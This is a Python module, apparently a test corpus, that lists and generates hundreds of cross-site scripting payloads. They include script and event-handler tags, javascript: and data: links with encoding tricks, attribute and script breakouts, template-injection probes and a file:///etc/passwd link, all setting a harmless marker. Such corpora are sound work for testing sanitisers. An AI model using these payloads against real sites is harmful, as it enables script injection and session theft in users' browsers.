"""XSS attacks: texts that models or people could be made to write."""

BY_HAND = [
    "<script>window.hit = 1</script>",
    "<img src=x onerror=window.hit=1>",
    "<svg onload=window.hit=1>",
    "<svg><script>window.hit=1</script></svg>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<a href='javascript:window.hit=1'>a</a>",
    "[a](javascript:window.hit=1)",
    "[a](JaVaScRiPt:window.hit=1)",
    "[a](java\nscript:window.hit=1)",
    "[a](  javascript:window.hit=1)",
    "[a](&#106;avascript:window.hit=1)",
    "[a](&#x6A;avascript&colon;window.hit=1)",
    "[a](javascript&#58;window.hit=1)",
    "[a](\\javascript:window.hit=1)",
    "[a](\u0001javascript:window.hit=1)",
    "[a](vbscript:msgbox)",
    "[a](data:text/html,<script>window.hit=1</script>)",
    "[a](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=)",
    "[a](file:///etc/passwd)",
    "[a](blob:https://example.org/x)",
    "<javascript:window.hit=1>",
    "<data:text/html,x>",
    "![a](javascript:window.hit=1)",
    "![a](https://example.org/track.png)",
    '![a](x"onerror="window.hit=1)',
    "[![a](x)](javascript:window.hit=1)",
    '[a](https://example.org "x\\" onmouseover=\\"window.hit=1")',
    '[a](https://example.org"onclick="window.hit=1)',
    "[a][1]\n\n[1]: javascript:window.hit=1",
    '[a][1]\n\n[1]: https://example.org "><script>window.hit=1</script>',
    "```<script>window.hit=1</script>\nx\n```",
    '```"onclick="window.hit=1\nx\n```',
    "`<img src=x onerror=window.hit=1>`",
    "<details open ontoggle=window.hit=1>",
    "<style>@import 'https://example.org/x.css';</style>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.hit=1>",
    "<form action=https://example.org><input name=a></form>",
    "<base href=https://example.org/>",
    "<meta http-equiv=refresh content='0;url=javascript:window.hit=1'>",
    "<object data=javascript:window.hit=1></object>",
    "<x onclick=window.hit=1>a",
    "<!--><script>window.hit=1</script>-->",
    "<![CDATA[<script>window.hit=1</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'>",
    "| a |\n|---|\n| <img src=x onerror=window.hit=1> |",
    "> <script>window.hit=1</script>",
    "- <img src=x onerror=window.hit=1>",
    "\\<script>window.hit=1\\</script>",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "<a\x00href=javascript:window.hit=1>a</a>",
    "<sc\x00ript>window.hit=1</script>",
    "\u202e<script>window.hit=1</script>",
    "http://example.org/<script>window.hit=1</script>",
]
# Event handlers that run without user interaction, by element and event.
HANDLERS = [
    f"<{element} {event}=window.hit=1>"
    for element, event in [
        *[("body", each) for each in ("onload", "onpageshow", "onfocus", "onhashchange")],
        *[("img src=x", each) for each in ("onerror", "ONERROR", "on\nerror", "onerror\t")],
        *[("video src=x", each) for each in ("onerror", "onloadstart")],
        *[("audio src=x", each) for each in ("onerror", "onloadstart")],
        *[("input autofocus", each) for each in ("onfocus", "onfocusin")],
        *[("svg", each) for each in ("onload", "onbegin")],
        *[("div style='animation:x'", each) for each in ("onanimationstart", "onanimationend")],
        ("svg><animate attributeName=x dur=1s", "onbegin"),
        ("svg><set attributeName=x dur=1s", "onbegin"),
        ("marquee", "onstart"),
        ("select autofocus", "onfocus"),
        ("textarea autofocus", "onfocus"),
        ("button popovertarget=x", "onclick"),
        ("xss contenteditable autofocus tabindex=1", "onfocus"),
        ("details open", "ontoggle"),
        ("dialog open", "onclose"),
        ("object data=x", "onerror"),
        ("embed src=x", "onload"),
        ("link rel=stylesheet href=x", "onerror"),
        ("script src=x", "onerror"),
        ("iframe src=about:blank", "onload"),
    ]
]
# Attempts to break out of the contexts in which templates put text: attributes, scripts, JSON,
# styles, comments.
WAYS_OUT = [
    before + "<img src=x onerror=window.hit=1>" + after
    for before, after in [
        ('">', ""),
        ("'>", ""),
        ("`>", ""),
        ("-->", "<!--"),
        ("</script>", ""),
        ("</SCRIPT\n>", ""),
        ("</title>", ""),
        ("</textarea>", ""),
        ("</style>", ""),
        ("</template>", ""),
        ("</noscript>", ""),
        ("</select></option>", ""),
        ("]]>", ""),
        ('\\">', ""),
        ("&quot;>", ""),
        ("\u2028", "\u2029"),
        ("%22%3E", ""),
        ("*/", "/*"),
        ('"}]}', ""),
        ("</td></tr></table>", ""),
        ("</a></li></ul>", ""),
        ("</use></svg>", ""),
    ]
]
IN_ATTRIBUTES = [
    f"{quote}{space}{name}=window.hit=1{space}x={quote}"
    for quote in ('"', "'", "`", "")
    for space in (" ", "/", "\t", "\n")
    for name in ("onmouseover", "autofocus onfocus")
]
IN_SCRIPTS = [
    *('";window.hit=1;//', "';window.hit=1;//", "`;window.hit=1;//", "${window.hit=1}"),
    *("\\';window.hit=1;//", '\\";window.hit=1;//', "</script><script>window.hit=1</script>"),
    *("<!--<script>", "<!-- <script> window.hit=1 </script> -->", "\u2028window.hit=1"),
    *("{{constructor.constructor('window.hit=1')()}}", "{% debug %}", "{{ request }}", "#{7*7}"),
    *("javascript:window.hit=1", "JAVASCRIPT&colon;window.hit=1", "data:text/html,<script>1"),
    *("__proto__", "constructor", "<%= 7*7 %>", "%(name)s", "{0.__class__}", "$(window.hit=1)"),
]
ADDRESSES = [
    shape.format(scheme)
    for shape in ("[a]({}window.hit=1)", "<{}window.hit=1>", "[a]: {}window.hit=1\n\n[a]")
    for scheme in (
        *("javascript:", "JAVASCRIPT:", "java\tscript:", "java&NewLine;script:", "\x01javascript:"),
        *(
            "javascript://%0a",
            "vbscript:",
            "data:text/html,",
            "data:image/svg+xml,<svg onload=1>",
            "blob:",
        ),
        *("feed:javascript:", "view-source:javascript:", "livescript:", "filesystem:", "jar:"),
    )
]
ALL = [*BY_HAND, *HANDLERS, *WAYS_OUT, *IN_ATTRIBUTES, *IN_SCRIPTS, *ADDRESSES]
CORPUS = list(dict.fromkeys(ALL))
